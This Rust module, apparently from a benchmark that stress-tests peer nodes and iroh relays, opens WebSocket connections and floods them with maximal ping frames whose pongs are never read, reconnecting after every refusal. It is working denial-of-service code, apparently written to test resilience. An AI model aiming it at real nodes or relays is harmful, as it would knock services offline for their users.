//! WebSocket pings whose pongs are never read, at a node's port and at a hub's relay.

use std::{sync::Arc, time::Duration};

use rustls::pki_types::ServerName;
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::timeout,
};
use tokio_rustls::TlsConnector;

use super::{AttackCounters, AttackOrders, PAUSE_AFTER_REFUSAL, pace};
use crate::{
    BenchError,
    siege::peer::{KeySeed, NodeAddress, hub_tls},
};

/// A masked ping of 125 bytes, the longest there is (RFC 6455, 5.5), whose mask is zero.
const PING_BYTES: usize = 2 + 4 + 125;

/// Pings in one write.
const PINGS_PER_WRITE: usize = 250;

/// Writes a second on each connection: 3 MB/s, more than any client sends whose pongs are read.
const PER_SECOND: f64 = 100.0;

/// How long a connection is held on which nothing more can be written.
const HOLD_TIME: Duration = Duration::from_secs(10);

/// Connections to the node, and to the relay.
const CONNECTIONS: [usize; 2] = [3, 2];

pub(super) async fn run(
    orders: &AttackOrders,
    counters: &AttackCounters,
) -> Result<(), BenchError> {
    let mut all = JoinSet::new();
    for _ in 0..CONNECTIONS[0] {
        let (address, seed, counters) = (orders.victim, KeySeed::draw()?, counters.clone());
        all.spawn(async move {
            loop {
                let flooded = Box::pin(at_node(address, &seed, &counters)).await;
                if let Err(error) = flooded {
                    counters.refused(&format!("node: {}", error.with_cause()));
                }
                tokio::time::sleep(PAUSE_AFTER_REFUSAL).await;
            }
        });
    }
    for _ in 0..CONNECTIONS[1] {
        let (hub, counters) = (orders.hub.clone(), counters.clone());
        all.spawn(async move {
            loop {
                if let Err(error) = Box::pin(at_relay(&hub, &counters)).await {
                    counters.refused(&format!("relay: {}", error.with_cause()));
                }
                tokio::time::sleep(PAUSE_AFTER_REFUSAL).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
    Ok(())
}

async fn at_node(
    address: NodeAddress,
    seed: &KeySeed,
    counters: &AttackCounters,
) -> Result<(), BenchError> {
    let tls = address.tls(&seed.identity()?, b"http/1.1").await?;
    flood(tls, "/hailwire", "hailwire", "node", counters).await
}

async fn at_relay(hub: &super::HubAddress, counters: &AttackCounters) -> Result<(), BenchError> {
    let ticket = hub.read()?;
    let key = ticket
        .key
        .ok_or(BenchError::Unsupported("a hub without a key"))?;
    let host = ticket.url.host();
    let io = TcpStream::connect((host, ticket.url.port())).await;
    let io = io.map_err(BenchError::io("connecting"))?;
    let name =
        ServerName::try_from(host.to_owned()).map_err(BenchError::failed("parsing the name"))?;
    let tls = TlsConnector::from(Arc::new(hub_tls(host, key)?))
        .connect(name, io)
        .await
        .map_err(BenchError::io("the TLS handshake"))?;
    let protocols = "iroh-relay-v1, iroh-relay-v2";
    flood(tls, "/relay", protocols, "relay", counters).await
}

/// Opens a WebSocket, then pings until the remote side closes it.
async fn flood<IO: AsyncRead + AsyncWrite + Unpin>(
    mut io: IO,
    path: &str,
    protocols: &str,
    at: &str,
    counters: &AttackCounters,
) -> Result<(), BenchError> {
    let head = format!(
        "GET {path} HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
         Sec-WebSocket-Protocol: {protocols}\r\n\r\n"
    );
    let asked = io.write_all(head.as_bytes()).await;
    asked.map_err(BenchError::io("the request"))?;
    let mut answer = [0; 12];
    let read = timeout(HOLD_TIME, io.read_exact(&mut answer)).await;
    read.map_err(|_| BenchError::Unsupported("no answer to the upgrade"))?
        .map_err(BenchError::io("the WebSocket upgrade"))?;
    if &answer != b"HTTP/1.1 101" {
        return Err(BenchError::Reported(
            String::from_utf8_lossy(&answer).into(),
        ));
    }
    counters.did(&format!("{at}: WebSockets"), 1);
    let mut ping = vec![0x89, 0x80 | 125, 0, 0, 0, 0];
    ping.resize(PING_BYTES, b'p');
    let pings = ping.repeat(PINGS_PER_WRITE);
    let mut pace = pace(PER_SECOND);
    loop {
        pace.tick().await;
        match timeout(HOLD_TIME, io.write_all(&pings)).await {
            Err(_) => {
                counters.refused(&format!("{at}: not read for 10 s"));
                return Ok(());
            }
            Ok(written) => written.map_err(BenchError::io("pinging"))?,
        }
        counters.did(&format!("{at}: pings"), PINGS_PER_WRITE as u64);
    }
}
